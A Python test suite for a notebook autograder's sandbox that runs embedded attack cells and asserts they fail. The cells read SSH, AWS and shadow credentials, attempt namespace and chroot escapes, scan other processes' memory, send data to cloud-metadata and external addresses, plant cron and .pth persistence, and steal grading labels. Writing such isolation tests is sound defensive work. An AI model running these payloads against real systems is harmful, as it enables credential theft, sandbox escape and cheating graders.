"""B. Reading secrets: labels, the gradebook, other submissions and the teacher's machine are unreadable from a cell.

A canary is planted in the teacher's home, /tmp, /dev/shm, the output folder, the secret's file, another submission, and
the environment and arguments of a process. Attackers are given every path. The last test shows that the attacks find
the canary without confinement.
"""

from __future__ import annotations

import os
import sysconfig
from pathlib import Path
from typing import Any

import numpy as np

from grader.sandbox.base import Sandbox
from grader.sandbox.levels import open_sandbox
from tests.attacks.classroom import GUESS, HONEST, HONEST_TOTAL, Attacker, Classroom, Handed, cells, hands_in
from tests.attacks.conftest import Listener

HISTORY = """
import glob, json, os
print("MINE", json.dumps(In), json.dumps(_ih))
print(list(get_ipython().history_manager.get_range(output=True)))
print(list(get_ipython().history_manager.get_tail(1000)) if get_ipython().history_manager.enabled else "no history")
print("FOUND", [path for path in glob.glob(os.path.expanduser("~/.ipython/**/history*"), recursive=True)])
print(get_ipython().kernel.get_parent("shell")["content"]["code"])
"""


@hands_in(cells("22 history", GUESS, HISTORY))
def test_22_history_contains_only_the_students_own_cells(attacker: Attacker) -> None:
    assert "FOUND []" in attacker.printed
    for text in ("guest.probe.probe", "hidden", "assert "):
        assert text not in attacker.printed.replace("history*", "")


FILES = """
import glob
for path in PLACES["planted"] + [PLACES[name] for name in ("config", "neighbours_notes", "neighbour")]:
    show(path)
show(PLACES["out"] + "/gradebook.db")
for path in glob.glob(PLACES["root"] + "/*/*"): show(path)
for up in ("..", "../..", "../../..", "/proc/self/root", "/proc/1/root", "/proc/1/cwd"):
    for path in PLACES["planted"]: show(up + path)
for start in ("/tmp", "/root", "/home", "/dev/shm", "/mnt", "/var/tmp", "/srv", "/autograder"):
    for count, (folder, _, names) in enumerate(os.walk(start)):
        for name in names:
            if name.startswith(".grader-"): show(os.path.join(folder, name))
        if count > 3000: break
"""
SUBPROCESS = """
import subprocess
for path in PLACES["planted"]:
    for command in (["cat", path], ["sudo", "-n", "cat", path], ["su", "-c", "cat " + path]):
        try: print(subprocess.run(command, capture_output=True, text=True, timeout=5).stdout)
        except (OSError, subprocess.TimeoutExpired) as error: print(type(error).__name__)
"""
HANDLES = """
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
for number in (303, 304): print(libc.syscall(number, -100, PLACES["planted"][0].encode(), 0, 0, 0), ctypes.get_errno())
for flags in (0x10000000, 0x00020000): print("unshare", libc.unshare(flags))
for pid in (1, 2, PLACES["grader"]):
    for kind in ("mnt", "user", "pid"):
        try: print("setns", libc.setns(os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY), 0))
        except OSError as error: print(type(error).__name__)
print("mount", libc.mount(b"none", b"/job/work", b"tmpfs", 0, None), "chroot", libc.chroot(b"/job"))
os.makedirs("up", exist_ok=True)
print("bind", libc.mount(b"/", b"/job/work/up", None, 4096, None), os.listdir("up"))
print("pivot", libc.syscall(155, b"/job/work", b"/job/work/up"))
for path in PLACES["planted"]: show(path)
"""


SWITCHES = """
for path in (
    "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper",
    "/sys/fs/cgroup/release_agent", "/proc/1/mem", f"/proc/{os.getppid()}/mem", f"/proc/{os.getppid()}/environ",
    "/proc/1/root/etc/passwd", "/proc/sys/vm/overcommit_memory", sys.executable, "/guest/probe.py", "/etc/ld.so.preload",
):
    try: os.open(path, os.O_RDWR); print("OPENED", path)
    except OSError as error: print(type(error).__name__)
"""


@hands_in(
    cells("23 files", FILES, GUESS),
    cells("23 subprocess", SUBPROCESS, GUESS),
    cells("23 handles", "'PLACES'", HANDLES, GUESS),
    cells("23 switches", "'PLACES'", SWITCHES, GUESS),
)
def test_23_files_of_teacher_and_other_students_are_unreachable(
    confined: None, attacker: Attacker, canary: str
) -> None:
    assert canary.encode() not in attacker.everything
    assert HONEST.strip()[:40].encode() not in attacker.everything
    for let_in in ("unshare 0", "setns 0", "mount 0", "bind 0", "pivot 0", "chroot 0", "OPENED"):
        assert let_in not in attacker.printed


PROC = """
import glob
for folder in (f"/proc/{PLACES['process']}", *glob.glob("/proc/[0-9]*")):
    for name in ("environ", "cmdline", "stat", "mountinfo"):
        print(folder, name); show(f"{folder}/{name}")
    for number in glob.glob(folder + "/fd/*"):
        try: print(number, os.readlink(number))
        except OSError: pass
for pid in (PLACES["process"], PLACES["grader"], os.getppid(), 1):
    print("SIGNAL", pid, end=" ")
    try: os.kill(pid, 0); print("reached")
    except OSError as error: print(type(error).__name__)
"""
TRACE = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in (PLACES["process"], PLACES["grader"], os.getppid(), 1):
    print("traced" if libc.ptrace(16, pid, 0, 0) == 0 else "refused", pid)
    buffer = ctypes.create_string_buffer(8)
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
    print("read" if libc.process_vm_readv(pid, vector, 1, vector, 1, 0) > 0 else "refused", pid)
for name in ("/proc/kcore", "/proc/kmsg", "/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/sda"):
    try: print("kernel" if open(name, "rb").read(1000) else "empty", name)
    except OSError as error: print(type(error).__name__)
"""
# Open files of other processes are reachable through /proc, and from an open folder its parents are, too.
THROUGH = """
import glob
for link in glob.glob("/proc/*/fd/*") + glob.glob("/proc/*/cwd") + glob.glob("/proc/*/root") + glob.glob("/proc/*/task/*/cwd"):
    try: target = os.readlink(link)
    except OSError: continue
    print("LINK", link, target)
    for up in ("", "/..", "/../..", "/../../../../.."):
        try: names = os.listdir(link + up)
        except OSError: continue
        for path in PLACES["planted"]: show(link + up + path)
        if os.path.basename(PLACES["root"]) in names: print("OUT THROUGH", link + up)
    try:
        if os.path.isfile(target) and "/out/" not in target: print("ADDED TO", target, open(link, "ab").write(b"isolation failed: x\\n"))
    except OSError: pass
"""
MEMORY = """
import re
def scan(pid):
    try: maps, memory = open(f"/proc/{pid}/maps").read(), open(f"/proc/{pid}/mem", "rb", 0)
    except OSError as error: return print(pid, type(error).__name__)
    for line in maps.splitlines():
        low, high = (int(part, 16) for part in line.split()[0].split("-"))
        if "rw" in line and high - low < 1 << 26:
            try: memory.seek(low); block = memory.read(high - low)
            except (OSError, ValueError): continue
            for found in re.findall(rb"canary[0-9a-f]{16}", block)[:3]: print("MEMORY", pid, found)
for pid in [PLACES["process"], PLACES["grader"], *(set(range(1, 40)) - {os.getpid()})]: scan(pid)
"""


@hands_in(
    cells("24 proc", PROC, GUESS),
    cells("24 memory", "'PLACES'", MEMORY, GUESS),
    cells("24 traced", "'PLACES'", TRACE, GUESS),
    cells("24 links", "'PLACES'", THROUGH, GUESS),
)
def test_24_other_processes_cannot_be_seen_or_read(confined: None, attacker: Attacker, canary: str) -> None:
    assert canary.encode() not in attacker.everything
    known = attacker.classroom.places.known()
    for reached in (f"SIGNAL {known['process']} reached", "\ntraced", "\nread ", "\nkernel ", "OUT THROUGH"):
        assert reached not in attacker.printed
    assert attacker.outcome == "ok", attacker.reason
    assert str(attacker.classroom.places.root) not in attacker.printed.replace(repr(known), "")


# Use any array in the process whose length and values could be the labels.
STEAL = """
import gc, inspect, linecache, mmap, sys
import numpy as np
def candidates(rows, X):
    seen = [value for frame in inspect.stack() for value in (*frame.frame.f_locals.values(), *frame.frame.f_globals.values())]
    for thing in (*seen, *gc.get_objects()):
        for value in (list(thing.values())[:5000] if type(thing) is dict else [thing]):
            cell = getattr(value, "__closure__", None) or ()
            for each in (value, *(c.cell_contents for c in cell if c is not None)):
                if isinstance(each, np.ndarray) and each is not X and each.ndim == 1 and len(each) in (rows, 400):
                    if set(np.unique(each)) <= {0, 1}: yield each
def predict(X):
    for answers in candidates(len(X), X):
        return answers[:len(X)].astype(int) if len(answers) >= len(X) else [0] * len(X)
    return [0] * len(X)
"""


@hands_in(cells("25 every object", STEAL))
def test_25_no_object_of_the_process_contains_labels(attacker: Attacker) -> None:
    assert attacker.points("accuracy") == 0
    assert attacker.outcome == "ok"


ENVIRONMENT = """
import json, pathlib, pwd
print(json.dumps(dict(os.environ)))
homes = {os.path.expanduser("~"), os.path.expanduser("~root"), *(entry.pw_dir for entry in pwd.getpwall())} if os.path.exists("/etc/passwd") else set()
for home in homes:
    for name in (".netrc", ".kaggle/kaggle.json", ".aws/credentials", ".ssh/id_rsa", ".docker/config.json", ".bash_history"):
        show(home + "/" + name)
    for path in PLACES["planted"]: show(home + "/" + os.path.basename(path))
for name in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/environment", "/run/secrets", "/etc/machine-id"): show(name)
"""


@hands_in(cells("26 environment", ENVIRONMENT, GUESS))
def test_26_keys_and_tokens_are_unreachable(confined: None, attacker: Attacker, canary: str) -> None:
    assert canary.encode() not in attacker.everything
    assert "daemon:" not in attacker.printed, "accounts of the machine"


def test_26_environment_of_the_grader_is_not_inherited(classroom: Classroom, canary: str) -> None:
    """Even without confinement, the token in the sandbox's environment is in no output."""
    for name in classroom.results:
        assert f'"LMS_TOKEN": "{canary}"'.encode() not in classroom[name].everything


ORACLE = """
import os
place = os.path.join(os.getcwd(), "..", "exchange", "inputs.npy")
def predict(X):
    if os.path.exists(place):
        raise ValueError("HID" + "DEN " + repr(X.tolist()) + str(sum(map(sum, X))))
    return [0] * len(X)
"""


@hands_in(cells("27 exceptions", ORACLE))
def test_27_errors_while_predicting_reveal_nothing(attacker: Attacker) -> None:
    """Only one bit leaks, and the accuracy itself, which the report gives in three digits."""
    assert b"HIDDEN" not in attacker.everything
    assert_no_hidden_row(attacker)


def test_27_feedback_has_at_most_three_digits(classroom: Classroom) -> None:
    score = classroom["00 honest"].score("accuracy")
    assert score.value is not None
    assert f"{score.value:.3f}" in str(score.reason)
    assert classroom["00 honest"].report.count(f"{score.value:.5f}") == 0


TELL = """
import sys, json, base64, warnings
import matplotlib.pyplot as plt
from IPython.display import HTML, display
def predict(X):
    text = "\\nHIDDEN " + json.dumps(X.tolist()) + "\\n"
    print(text); print(text, file=sys.stderr); display(HTML(text)); os.write(1, text.encode()); os.write(2, text.encode())
    warnings.warn(text); plt.plot(X[:, 0]); plt.title(text[:50]); plt.show()
    for name in ("stolen.txt", "../out/executed.ipynb", "../out/facts.json", "../out/ready", "../home/stolen", "../driver.log"):
        try: open(name, "a").write(text)
        except OSError: pass
    get_ipython().run_cell("print('''" + text + "''')", store_history=True)
    try: show(PLACES["config"]); open(PLACES["marker"], "w").write(text)
    except OSError: pass
    return X
"""


@hands_in(cells("28 tells", TELL))
def test_28_output_while_predicting_is_not_kept(attacker: Attacker) -> None:
    assert_no_hidden_row(attacker)


def assert_no_hidden_row(attacker: Attacker) -> None:
    kept = attacker.everything
    for row in attacker.classroom.hidden_inputs:
        for number in row:
            assert repr(float(number)).encode() not in kept
            assert np.float64(number).tobytes() not in kept
    assert attacker.classroom.hidden_labels.tobytes() not in kept


NETWORK = """
import socket, subprocess, urllib.request
def reach(family, kind, address):
    try:
        with socket.socket(family, kind) as caller:
            caller.settimeout(2); caller.connect(address); caller.send(b"stolen"); print("SENT", address)
    except OSError as error: print(address, type(error).__name__)
for address in ("127.0.0.1", "10.0.2.2", "169.254.169.254", "8.8.8.8"): reach(socket.AF_INET, socket.SOCK_STREAM, (address, PLACES["port"]))
reach(socket.AF_INET, socket.SOCK_STREAM, ("169.254.169.254", 80))
reach(socket.AF_INET, socket.SOCK_DGRAM, ("8.8.8.8", 53))
reach(socket.AF_INET6, socket.SOCK_STREAM, ("::1", PLACES["port"], 0, 0))
for name in (PLACES["socket"], PLACES["abstract"], "/var/run/docker.sock", "/tmp/.X11-unix/X0"): reach(socket.AF_UNIX, socket.SOCK_STREAM, name)
try: reach(socket.AF_INET, socket.SOCK_RAW, ("127.0.0.1", 0)); reach(socket.AF_PACKET, socket.SOCK_RAW, ("eth0", 0)); reach(40, socket.SOCK_STREAM, (2, 1024))
except (OSError, TypeError, AttributeError) as error: print(type(error).__name__)
try: print("RESOLVED", socket.getaddrinfo("example.org", 80))
except OSError as error: print("no name", error)
print("INTERFACES", sorted(name for _, name in socket.if_nameindex()))
"""


@hands_in(cells("29 network", "'PLACES'", NETWORK, GUESS))
def test_29_no_network_and_no_service_is_reachable(confined: None, attacker: Attacker, listener: Listener) -> None:
    assert listener.visits == []
    assert "RESOLVED" not in attacker.printed
    assert attacker.points("runs") == 20, attacker.printed
    assert "INTERFACES ['lo']" in attacker.printed
    sent = [line for line in attacker.printed.splitlines() if line.startswith("SENT")]
    assert sent == []


PERSIST = """
import glob, site, sysconfig
MARK = "PERSISTED = 1\\n"
places = [os.path.expanduser(name) for name in ("~/.ipython/profile_default/startup/00.py", "~/.keras/keras.json", "~/.cache/x", "~/.config/x")]
places += ["/tmp/persisted", "/dev/shm/persisted", "/var/tmp/persisted", "/etc/cron.d/persisted", "/var/spool/cron/persisted", "/usr/lib/persisted"]
places += [os.path.join(folder, "persisted.pth") for folder in (sysconfig.get_path("purelib"), *site.getsitepackages(), *sys.path) if folder]
places += [os.path.join(os.path.dirname(sys.modules["guest"].__file__), "persisted.py"), sys.executable + "-persisted"]
places += glob.glob("/job/*") + ["/job/persisted", "/persisted", "/guest/persisted.py"]
for place in places:
    try:
        os.makedirs(os.path.dirname(place), exist_ok=True); open(place, "w").write(MARK); print("KEPT", place)
    except OSError: pass
import numpy, multiprocessing.shared_memory as shm, builtins
builtins.PERSISTED = numpy.PERSISTED = sys.modules["guest.probe.probe"].PERSISTED = 1
try: shm.SharedMemory("persisted", create=True, size=100)
except OSError: pass
"""
WITNESS = """
import builtins, glob, os, sys, numpy
seen = [path for folder in ("~", "~/.*", "/tmp", "/dev/shm", "/var/tmp", "/job") for path in glob.glob(os.path.expanduser(folder) + "/**", recursive=True, include_hidden=True)]
seen = [path for path in seen if not path.startswith((sys.prefix, sys.base_prefix))]  # an environment may live below /tmp
print("SEEN", [path for path in seen if "persisted" in path or "00.py" in path or "keras.json" in path])
print("SEEN", [hasattr(place, "PERSISTED") for place in (builtins, numpy, sys.modules["guest.probe.probe"])])
print("SEEN", [os.path.exists("/dev/shm/persisted")], os.getpid() > 0)
"""


@hands_in(cells("30 persists", "'PLACES'", PERSIST, GUESS), cells("zz witness", WITNESS, HONEST))
def test_30_nothing_persists_for_the_next_student(confined: None, attacker: Attacker) -> None:
    witness = attacker.classroom["zz witness"]
    assert witness.total == HONEST_TOTAL
    assert "SEEN []" in witness.printed
    assert "SEEN [False, False, False]" in witness.printed
    assert "SEEN [False]" in witness.printed
    for folder in (
        sysconfig.get_path("purelib"),
        Path("/tmp"),
        Path("/dev/shm"),
        Path("/var/tmp"),
        Path(__file__).parents[2],
    ):
        assert list(Path(folder).glob("persisted*")) == []


SEND = """
import os, socket, time
deadline, server = time.time() + 4, socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
sender = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
while time.time() < deadline:
    for place in ("/tmp/covert", "/dev/shm/covert", "/var/tmp/covert"):
        try: open(place, "w").write("FROM A NEIGHBOUR")
        except OSError: pass
    try: sender.sendto(b"FROM A " + b"NEIGHBOUR", "\\0grader-covert")
    except OSError: pass
    time.sleep(0.05)
"""
RECEIVE = """
import os, socket, time
deadline, heard, server = time.time() + 4, [], socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
server.bind("\\0grader-covert"); server.settimeout(0.1)
while time.time() < deadline:
    for place in ("/tmp/covert", "/dev/shm/covert", "/var/tmp/covert"):
        try: heard.append(open(place).read())
        except OSError: pass
    try: heard.append(server.recv(100))
    except OSError: pass
print("HEARD", heard[:3])
"""


@hands_in(cells("31 covert, sender", SEND, GUESS), cells("31 covert, taker", RECEIVE, GUESS))
def test_31_running_notebooks_cannot_communicate(confined: None, attacker: Attacker) -> None:
    assert "HEARD []" in attacker.classroom["31 covert, taker"].printed


def test_honest_students_keep_their_points(classroom: Classroom) -> None:
    for name in ("00 honest", "zz honest"):
        assert classroom[name].total == HONEST_TOTAL


# ---------------------------------------------------------------- the attacks are real

REAL = (
    cells("files", FILES),
    cells("subprocess", SUBPROCESS),
    cells("processes", PROC),
    cells("homes", ENVIRONMENT),
    cells("network", "'PLACES'", NETWORK),
)


def test_same_attacks_succeed_without_confinement(new_classroom: Any, canary: str, listener: Listener) -> None:
    """Show that the tests above do not pass merely because the attacks are broken."""
    before = len(listener.visits)
    unconfined: Sandbox = open_sandbox("process", os.environ)
    open_class: Classroom = new_classroom()
    try:
        open_class.grade([Handed(attack.name, attack.cells) for attack in REAL], unconfined)
    finally:
        unconfined.close()
    for attack in REAL[:-1]:
        assert canary.encode() in open_class[attack.name].everything, attack.name
    assert {"tcp", "path", "abstract"} <= set(listener.visits[before:])
    del listener.visits[before:]
